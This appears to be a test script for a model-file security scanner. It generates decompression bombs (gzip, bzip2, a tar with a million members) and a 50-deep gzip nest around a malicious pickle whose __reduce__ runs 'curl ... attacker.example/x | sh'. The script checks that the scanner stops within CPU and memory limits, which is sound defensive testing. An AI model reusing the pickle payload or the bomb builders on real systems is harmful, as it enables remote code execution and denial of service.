#!/usr/bin/env python3
"""Container limits and locations, with files built at test time (standard library only).

  1. Every "must" entry of tests/fixtures/archive/expected.json that names a "location" is
     matched by a finding at exactly that location (run_fixtures.py checks the rest).
  2. Bombs and nests end in "Scan Limit Exceeded" with memory and time bounded:
     - a gzip of 4 GiB of zeros (about 4 MB on disk), built streaming with zlib;
     - a zstd-like ratio bomb: bzip2 of 256 MiB of zeros (a few hundred bytes);
     - a 50-deep gzip nest around a malicious pickle;
     - gzips of 80 MiB of zeros (with and without a ZIP end record at the end): members of no
       code-carrying format are not held in memory past 64 MiB, and that is reported;
     - a tar.gz with 1,056,768 empty members (over the 1,000,000-member limit).
     Each scan must exit 0 without --fail-on and 1 with --fail-on medium, take under 60 s of CPU,
     and keep the peak RSS of every scanner run (RUSAGE_CHILDREN) under 600 MB.

usage: test_archive_limits.py SCANNER FIXTURE_DIR
"""
import bz2
import json
import os
import pickle
import resource
import subprocess
import sys
import tempfile
import zlib

MAX_SECONDS = 60
MAX_RSS_MB = 600
passed = failed = 0


def check(ok, what):
    global passed, failed
    if ok:
        passed += 1
        print(f"ok   {what}")
    else:
        failed += 1
        print(f"FAIL {what}")


def child_cpu():
    ru = resource.getrusage(resource.RUSAGE_CHILDREN)
    return ru.ru_utime + ru.ru_stime


def scan(scanner, path, *extra):
    """Runs the scanner; the time returned is its CPU time (user + system), which other jobs
    on a loaded machine do not inflate the way they inflate wall-clock time."""
    t0 = child_cpu()
    proc = subprocess.run([scanner, "--model-path", path, "--output-format", "json", "--quiet",
                           *extra], capture_output=True)
    elapsed = child_cpu() - t0
    report = json.loads(proc.stdout) if proc.stdout else None
    return proc.returncode, report, elapsed, proc.stderr.decode(errors="replace")


def findings(report):
    return report["vulnerabilities"] + report["warnings"] if report else []


def matches(f, want):
    for key in ("type", "severity", "rule_id", "location"):
        if key in want and f.get(key) != want[key]:
            return False
    if "global" in want and f.get("details", {}).get("global") != want["global"]:
        return False
    return want.get("description_contains", "") in f.get("description", "")


def check_locations(scanner, fixture_dir):
    manifest = json.load(open(os.path.join(fixture_dir, "expected.json")))
    for name in sorted(manifest):
        wants = [w for w in manifest[name].get("must", []) if "location" in w]
        if not wants:
            continue
        rc, report, _, err = scan(scanner, os.path.join(fixture_dir, name))
        got = findings(report)
        for w in wants:
            ok = any(matches(f, w) for f in got)
            check(ok, f"{name}: {w['rule_id']} at {w['location']}")
            if not ok:
                for f in got:
                    print(f"     got: {f['rule_id']} @ {f['location']}")


def rss_mb():
    # ru_maxrss is in KiB on Linux: the largest of the children waited for so far
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024


def check_limited(scanner, path, label, want_rule="SCAN-LIMIT", want_text=None):
    rc, report, elapsed, err = scan(scanner, path)
    check(rc == 0 and report is not None, f"{label}: scan exits 0 with a report (rc={rc}) {err[:200]}")
    hits = [f for f in findings(report) if f["rule_id"] == want_rule and f["type"] ==
            "Scan Limit Exceeded" and (want_text is None or want_text in f["description"])]
    check(bool(hits), f"{label}: a {want_rule} finding" + (f" mentioning {want_text!r}" if want_text else ""))
    if not hits:
        for f in findings(report):
            print(f"     got: {f['rule_id']} @ {f['location']}: {f['description'][:160]}")
    check(elapsed < MAX_SECONDS, f"{label}: took {elapsed:.1f} s of CPU (< {MAX_SECONDS} s)")
    check(rss_mb() < MAX_RSS_MB, f"{label}: peak RSS so far {rss_mb():.0f} MB (< {MAX_RSS_MB} MB)")
    rc2, _, _, _ = scan(scanner, path, "--fail-on", "medium")
    check(rc2 == 1, f"{label}: exit status 1 with --fail-on medium (got {rc2})")
    return report


def gzip_of_zeros(path, mib_count, tail=b""):
    """A gzip member (FNAME zeros.bin) of mib_count MiB of zeros then `tail`, written without
    ever holding them: after a full flush deflate output no longer depends on history, so one
    compressed MiB is repeated."""
    mib = bytes(1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    assert block == c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    last = c.compress(tail) + c.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(mib_count):
        crc = zlib.crc32(mib, crc)
    crc = zlib.crc32(tail, crc)
    total = (mib_count << 20) + len(tail)
    with open(path, "wb") as f:
        f.write(b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x02\x03zeros.bin\x00")
        f.write(first)
        for _ in range(mib_count - 1):
            f.write(block)
        f.write(last)
        f.write(crc.to_bytes(4, "little") + (total & 0xFFFFFFFF).to_bytes(4, "little"))


def gzip_bomb(path, gib=4):
    gzip_of_zeros(path, gib << 10)


def gzip_nest(path, depth):
    class Evil:
        def __reduce__(self):
            return (os.system, ("curl -s http://attacker.example/x | sh",))

    data = pickle.dumps(Evil(), protocol=2)
    for _ in range(depth):
        data = _gzip(data)
    with open(path, "wb") as f:
        f.write(data)


def _gzip(data):
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    return c.compress(data) + c.flush()


def tar_of_empty_members(path, blocks):
    """A tar.gz of blocks * 8192 empty regular files (all named e/empty), written like the
    gzip bomb: one compressed block of 8192 ustar headers, repeated."""
    h = bytearray(512)
    h[0:7] = b"e/empty"
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"00000000000\0"
    h[136:148] = b"14540000000\0"
    h[148:156] = b" " * 8
    h[156:157] = b"0"
    h[257:265] = b"ustar\x0000"
    h[148:156] = b"%06o\0 " % sum(h)
    block = bytes(h) * 8192
    c = zlib.compressobj(1, zlib.DEFLATED, -15)
    first = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    assert again == c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(blocks):
        crc = zlib.crc32(block, crc)
    end = bytes(1024)
    crc = zlib.crc32(end, crc)
    total = blocks * len(block) + len(end)
    with open(path, "wb") as f:
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + first)
        for _ in range(blocks - 1):
            f.write(again)
        f.write(c.compress(end) + c.flush(zlib.Z_FINISH))
        f.write(crc.to_bytes(4, "little") + (total & 0xFFFFFFFF).to_bytes(4, "little"))


def main():
    scanner, fixture_dir = sys.argv[1], sys.argv[2]
    check_locations(scanner, fixture_dir)
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "bomb.gz")
        gzip_bomb(p)
        check(os.path.getsize(p) < 8 << 20, f"gzip bomb is small on disk ({os.path.getsize(p)} bytes)")
        check_limited(scanner, p, "gzip bomb of 4 GiB of zeros", want_text="per-member limit")
        os.unlink(p)

        # 80 MiB of zeros: past 64 MiB a member of no code-carrying format is no longer held
        p = os.path.join(d, "zeros.gz")
        gzip_of_zeros(p, 80)
        check_limited(scanner, p, "gzip of 80 MiB of zeros (not held)", want_text="not held in memory")
        gzip_of_zeros(p, 80, b"PK\x05\x06" + bytes(18))
        check_limited(scanner, p, "80 MiB of zeros ending in a ZIP end record", want_text="ZIP end record")
        os.unlink(p)

        p = os.path.join(d, "ratio.bz2")
        c = bz2.BZ2Compressor(9)
        mib = bytes(1 << 20)
        with open(p, "wb") as f:
            for _ in range(256):
                f.write(c.compress(mib))
            f.write(c.flush())
        check_limited(scanner, p, "bzip2 of 256 MiB of zeros (ratio)", want_text="times its compressed size")
        os.unlink(p)

        p = os.path.join(d, "nest.gz")
        gzip_nest(p, 50)
        report = check_limited(scanner, p, "50-deep gzip nest", want_text="nested more than")
        check(not any(f["type"] == "Malformed Model File" for f in findings(report)),
              "50-deep gzip nest: no Malformed Model File (the nest is valid)")

        p = os.path.join(d, "many.tar.gz")
        tar_of_empty_members(p, 129)
        check(os.path.getsize(p) < 8 << 20, f"tar.gz of 1,056,768 members is small ({os.path.getsize(p)} bytes)")
        check_limited(scanner, p, "tar.gz of 1,056,768 empty members", want_text="1000000")
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
